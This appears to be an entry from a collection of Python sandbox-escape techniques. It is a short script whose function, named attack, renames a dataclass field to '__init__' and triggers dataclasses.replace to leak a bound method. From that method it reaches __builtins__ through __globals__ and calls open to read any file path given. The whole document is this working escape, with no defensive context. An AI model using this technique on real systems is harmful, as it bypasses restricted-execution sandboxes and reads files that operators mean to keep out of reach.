# A field is renamed, and `asdict` reads what it names.
# after: read
# source: own
import json
from dataclasses import dataclass, fields, replace
taken = []
@dataclass(init=False)
class D:
    x: int = 1
    def __init__(self, **values):
        taken.append(values)
    @property
    def p(self): pass
def attack(path, **_):
    d = D()
    fields(D)[0].name = "__init__"
    replace(d)
    found = taken[-1]["__init__"].__globals__["__builtins__"]
    return {"text": found["open"](path).read()}
